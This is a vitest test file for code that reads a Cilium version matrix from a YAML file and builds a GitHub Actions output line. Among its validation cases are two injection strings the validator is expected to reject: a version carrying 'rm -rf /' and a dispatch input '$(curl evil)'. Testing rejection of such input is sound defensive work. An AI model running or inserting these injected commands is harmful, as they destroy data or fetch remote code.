import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { ciliumMatrix, matrixFor, outputLine, VERSIONS_FILE } from '../../reports/matrix.ts';

describe('the Cilium matrix comes from lab/versions.yaml', () => {
  test('the real file lists at least a 1.17 and a 1.18 patch, each a valid version', () => {
    const versions = ciliumMatrix(readFileSync(VERSIONS_FILE, 'utf8'));
    expect(versions.some((v) => v.startsWith('1.17.'))).toBe(true);
    expect(versions.some((v) => v.startsWith('1.18.'))).toBe(true);
    for (const v of versions) expect(v).toMatch(/^\d+\.\d+\.\d+/);
  });

  test('other keys of the file are left to their owner', () => {
    expect(ciliumMatrix('kubernetes: 1.33.4-1.1\nciliumMatrix: ["1.17.8", "v1.18.6"]\nbox: bento/ubuntu-24.04\n')).toEqual([
      '1.17.8',
      '1.18.6',
    ]);
  });

  test('bad files say what is wrong', () => {
    expect(() => ciliumMatrix('')).toThrow(/ciliumMatrix/);
    expect(() => ciliumMatrix('ciliumMatrix: []')).toThrow(/lists no Cilium version/);
    expect(() => ciliumMatrix('ciliumMatrix:\n  - 1.10\n')).toThrow(/quoted string/);
    expect(() => ciliumMatrix('ciliumMatrix: ["1.18.6", "1.18.6"]')).toThrow(/twice/);
    expect(() => ciliumMatrix('ciliumMatrix: ["1.18; rm -rf /"]')).toThrow(/not a usable Cilium version/);
    expect(() => ciliumMatrix('ciliumMatrix: [unclosed')).toThrow(/not YAML/);
  });

  test('a dispatch input replaces the list with one version; an empty input keeps the list', () => {
    const file = 'ciliumMatrix: ["1.17.8", "1.18.6"]';
    expect(matrixFor('1.18.2', file)).toEqual(['1.18.2']);
    expect(matrixFor(' v1.19.0 ', file)).toEqual(['1.19.0']);
    expect(matrixFor('', file)).toEqual(['1.17.8', '1.18.6']);
    expect(matrixFor(undefined, file)).toEqual(['1.17.8', '1.18.6']);
    expect(() => matrixFor('$(curl evil)', file)).toThrow();
  });

  test('the output line is what $GITHUB_OUTPUT and fromJSON read', () => {
    expect(outputLine(['1.17.8', '1.18.6'])).toBe('versions=["1.17.8","1.18.6"]');
  });
});
